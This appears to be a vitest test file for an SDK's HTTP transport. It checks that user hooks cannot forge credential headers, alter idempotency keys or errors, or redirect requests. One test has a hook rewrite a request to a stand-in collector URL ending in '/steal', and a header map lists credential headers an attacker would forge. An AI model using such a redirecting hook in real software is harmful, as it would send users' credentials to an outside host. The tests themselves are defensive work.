/**
 * User ky hooks (`hooks` app option): they see every request, attempt and answer, but cannot replace
 * the keys, tokens or idempotency key, cannot redirect a request to another origin, and cannot
 * change what the SDK throws. Wire shapes only: an injected fetch stands in for the server.
 */
import { describe, expect, it, vi } from "vitest";
import ky, { type BeforeRequestHook } from "ky";
import { createTransport, type TransportOptions } from "../../../src/core/transport.js";
import { Session, createMemoryStore } from "../../../src/core/session.js";
import { StackServerApp } from "../../../src/server.js";
import { StackClientApp } from "../../../src/index.js";
import { itemResponseShape } from "../../../src/core/wire-shapes.js";
import type { Shape } from "../../../src/core/wire-shape.js";

function fakeFetch(handler: (request: Request, n: number) => Response | Promise<Response>) {
  const requests: Request[] = [];
  const fetch = (async (input: RequestInfo | URL, init?: RequestInit) => {
    const request = new Request(input, init);
    requests.push(request.clone());
    return handler(request, requests.length);
  }) as typeof globalThis.fetch;
  return { fetch, requests };
}

const json = (body: unknown, headers: Record<string, string> = {}, status = 200) => new Response(JSON.stringify(body), { status, headers: { "content-type": "application/json", ...headers } });
const known = (code: string, status: number) => json({ code, details: { item_id: "credits" }, error: `message of ${code}` }, { "x-stack-actual-status": String(status), "x-stack-known-error": code });
const item = { id: "credits", display_name: "Credits", quantity: 3 };
const jwt = `h.${btoa(JSON.stringify({ exp: Math.floor(Date.now() / 1000) + 600 })).replace(/=+$/, "")}.s`;

const base = (fetch: typeof globalThis.fetch, extra: Partial<TransportOptions> = {}): TransportOptions => ({
  baseUrl: "http://api.test",
  projectId: "proj",
  publishableClientKey: "pck_1",
  secretServerKey: "ssk_real",
  idempotencyKeys: true,
  fetch,
  retry: { attempts: 3, baseDelayMs: 1 },
  ...extra,
});
const get = { method: "GET" as const, path: "/payments/items/user/u1/credits", accessType: "server" as const, schema: itemResponseShape };
const post = { method: "POST" as const, path: "/payments/products/user/u1", body: { product_id: "p" }, accessType: "server" as const, schema: ["o", {}] as Shape<object> };

/** Every credential header a hook might try to set, in both spellings. */
const forged: Record<string, string> = {
  "x-stack-secret-server-key": "forged",
  "x-hexclave-secret-server-key": "forged",
  "x-stack-super-secret-admin-key": "forged",
  "x-hexclave-admin-access-token": "forged",
  "x-stack-access-token": "forged",
  "x-hexclave-access-token": "forged",
  "x-stack-refresh-token": "forged",
  "idempotency-key": "forged",
};

describe("the SDK's credentials survive user hooks", () => {
  it("puts the keys, tokens and idempotency key back after a hook changed or added them, keeping the hook's own headers", async () => {
    const f = fakeFetch(() => json({}));
    const mutate: BeforeRequestHook = (request) => {
      for (const [name, value] of Object.entries(forged)) request.headers.set(name, value);
      request.headers.set("x-trace-id", "t-1");
    };
    const replace: BeforeRequestHook = (request) => new Request(request, { headers: { ...forged, "x-trace-id": "t-2" } });
    for (const hook of [mutate, replace]) {
      const t = createTransport(base(f.fetch, { hooks: { beforeRequest: [hook] } }));
      const session = new Session(createMemoryStore({ accessToken: jwt, refreshToken: "rt_real" }), () => Promise.reject(new Error("no refresh expected")));
      await t.request({ ...post, session });
      const sent = f.requests.at(-1)!;
      expect(sent.headers.get("x-stack-secret-server-key")).toBe("ssk_real");
      expect(sent.headers.get("x-stack-access-token")).toBe(jwt);
      expect(sent.headers.get("x-stack-refresh-token")).toBe("rt_real");
      expect(sent.headers.get("idempotency-key")).toMatch(/^[0-9a-f-]{36}$/);
      for (const name of ["x-hexclave-secret-server-key", "x-stack-super-secret-admin-key", "x-hexclave-admin-access-token", "x-hexclave-access-token"]) {
        expect(sent.headers.has(name)).toBe(false);
      }
      expect(sent.headers.get("x-trace-id")).toBe(hook === mutate ? "t-1" : "t-2");
    }
  });

  it("a client app's hook cannot add a secret key, nor a token where the user has none", async () => {
    const f = fakeFetch(() => json(item));
    const t = createTransport(base(f.fetch, { secretServerKey: undefined, hooks: { beforeRequest: [(request) => void Object.entries(forged).forEach(([n, v]) => request.headers.set(n, v))] } }));
    await t.request({ ...get, accessType: "client" });
    for (const name of Object.keys(forged)) expect(f.requests[0]!.headers.has(name)).toBe(false);
  });

  it("keeps every attempt's idempotency key the SDK's own, so a retried write cannot apply twice", async () => {
    const f = fakeFetch((_, n) => (n === 1 ? json(item, { "x-stack-idempotency-supported": "true" }) : n === 2 ? new Response("boom", { status: 503 }) : json({})));
    let i = 0;
    const t = createTransport(base(f.fetch, { hooks: { beforeRequest: [(request) => void request.headers.set("idempotency-key", `hook-${i++}`)] } }));
    await t.request(get);
    await t.request(post);
    const keys = f.requests.slice(1).map((r) => r.headers.get("idempotency-key"));
    expect(keys).toHaveLength(2);
    expect(keys[0]).toBe(keys[1]);
    expect(keys[0]).not.toMatch(/^hook-/);
  });

  it("refuses a hook that points the request at another origin: nothing is sent anywhere", async () => {
    const f = fakeFetch(() => json(item));
    const t = createTransport(base(f.fetch, { hooks: { beforeRequest: [(request) => new Request("https://collector.example/steal", request)] } }));
    await expect(t.request(get)).rejects.toMatchObject({ code: "CONFIGURATION_ERROR", message: expect.stringContaining("https://collector.example") });
    expect(f.requests).toHaveLength(0);
  });

  it("extraRequestHeaders cannot replace the secret server key either (the official order)", async () => {
    const f = fakeFetch(() => json(item));
    await createTransport(base(f.fetch, { extraRequestHeaders: { "x-stack-secret-server-key": "forged", "x-extra": "1" } })).request(get);
    expect(f.requests[0]!.headers.get("x-stack-secret-server-key")).toBe("ssk_real");
    expect(f.requests[0]!.headers.get("x-extra")).toBe("1");
  });
});

describe("what hooks see and what the SDK still does", () => {
  it("afterResponse sees the real status of a known error, and the SDK still throws it with its details", async () => {
    const statuses: number[] = [];
    const f = fakeFetch(() => known("ITEM_NOT_FOUND", 404));
    const t = createTransport(base(f.fetch, { hooks: { afterResponse: [(_request, _options, response) => void statuses.push(response.status)] } }));
    await expect(t.request(get)).rejects.toMatchObject({ code: "ITEM_NOT_FOUND", status: 404, details: { item_id: "credits" } });
    expect(statuses).toEqual([404]);
  });

  it("beforeError gets a copy it may read; its return value cannot change what the SDK throws", async () => {
    const bodies: unknown[] = [];
    const f = fakeFetch(() => known("ITEM_NOT_FOUND", 404));
    const t = createTransport(
      base(f.fetch, {
        hooks: {
          beforeError: [
            async (error) => {
              bodies.push(await error.response.json());
              error.message = "rewritten by a hook";
              return error;
            },
          ],
        },
      }),
    );
    await expect(t.request(get)).rejects.toMatchObject({ code: "ITEM_NOT_FOUND", message: "message of ITEM_NOT_FOUND", details: { item_id: "credits" } });
    expect(bodies).toEqual([expect.objectContaining({ code: "ITEM_NOT_FOUND" })]);
  });

  it("beforeRetry sees each retry; returning ky.stop ends the call with the attempt's error", async () => {
    const seen: number[] = [];
    const f = fakeFetch(() => new Response("unavailable", { status: 503 }));
    const t = createTransport(base(f.fetch, { hooks: { beforeRetry: [({ retryCount }) => void seen.push(retryCount)] } }));
    await expect(t.request(get)).rejects.toMatchObject({ code: "HTTP_ERROR", status: 503, message: "unavailable" });
    expect(seen).toEqual([1, 2]);
    const g = fakeFetch(() => new Response("unavailable", { status: 503 }));
    const stopping = createTransport(base(g.fetch, { hooks: { beforeRetry: [() => ky.stop] } }));
    await expect(stopping.request(get)).rejects.toMatchObject({ code: "HTTP_ERROR", status: 503 });
    expect(g.requests).toHaveLength(1);
  });

  it("an error thrown by a hook reaches the caller unchanged and is never retried", async () => {
    const mine = new Error("blocked by policy");
    const f = fakeFetch(() => json(item));
    const t = createTransport(base(f.fetch, { hooks: { beforeRequest: [() => Promise.reject(mine)] } }));
    await expect(t.request(get)).rejects.toBe(mine);
    const after = fakeFetch(() => json(item));
    const u = createTransport(base(after.fetch, { hooks: { afterResponse: [() => Promise.reject(mine)] } }));
    await expect(u.request(get)).rejects.toBe(mine);
    expect(after.requests).toHaveLength(1);
  });

  it("a retry forced by afterResponse (ky.retry()) happens for a read, and is refused for a write that cannot be repeated", async () => {
    const f = fakeFetch(() => json(item));
    let forced = 0;
    const hooks = { afterResponse: [() => (forced++ === 0 ? ky.retry() : undefined)] };
    expect(await createTransport(base(f.fetch, { hooks })).request(get)).toEqual(item);
    expect(f.requests).toHaveLength(2);
    forced = 0;
    const w = fakeFetch(() => json({}));
    await expect(createTransport(base(w.fetch, { hooks })).request(post)).rejects.toMatchObject({ code: "CONFIGURATION_ERROR", message: expect.stringContaining("not safe to repeat") });
    expect(w.requests).toHaveLength(1);
  });

  it("runs on the refresh grant and the event stream too (one path)", async () => {
    const urls: string[] = [];
    const f = fakeFetch((request) => (request.url.endsWith("/auth/oauth/token") ? json({ access_token: jwt }) : new Response("data: x\n\n", { headers: { "content-type": "text/event-stream" } })));
    const t = createTransport(base(f.fetch, { hooks: { beforeRequest: [(request) => void urls.push(`${request.method} ${new URL(request.url).pathname}`)] } }));
    expect(await t.refreshAccessToken("rt")).toBe(jwt);
    const stream = await t.openStream({ path: "/payments/events/user/u1", accessType: "server" }, new AbortController().signal);
    expect(stream.status).toBe(200);
    expect(urls).toEqual(["POST /api/v1/auth/oauth/token", "GET /api/v1/payments/events/user/u1"]);
  });

  it("refuses an unknown hook name when the app is built", () => {
    expect(() => createTransport(base(fakeFetch(() => json({})).fetch, { hooks: { beforeRequests: [] } as never }))).toThrow(
      expect.objectContaining({ code: "INVALID_ARGUMENT", details: { argument: "hooks.beforeRequests" } }),
    );
  });
});

describe("the hooks app option", () => {
  it("reaches the transport of both apps; a server app's hook still cannot replace its key", async () => {
    const log = vi.fn();
    const f = fakeFetch(() => known("USER_NOT_FOUND", 404));
    const hooks = {
      beforeRequest: [(request: Request) => void request.headers.set("x-stack-secret-server-key", "forged")],
      afterResponse: [(request: Request, _options: unknown, response: Response) => void log(`${request.method} ${new URL(request.url).pathname} ${response.status}`)],
    };
    const server = new StackServerApp({ baseUrl: "http://api.test", projectId: "proj", secretServerKey: "ssk_real", tokenStore: "memory", fetch: f.fetch, retry: false, hooks });
    expect(await server.getUser("u1")).toBeNull();
    expect(f.requests[0]!.headers.get("x-stack-secret-server-key")).toBe("ssk_real");
    const client = new StackClientApp({ baseUrl: "http://api.test", projectId: "proj", tokenStore: { accessToken: jwt, refreshToken: "rt" }, fetch: f.fetch, retry: false, hooks });
    await client.getUser();
    expect(f.requests[1]!.headers.has("x-stack-secret-server-key")).toBe(false);
    expect(log.mock.calls.map((c) => c[0])).toEqual(["GET /api/v1/users/u1 404", "GET /api/v1/users/me 404"]);
  });
});
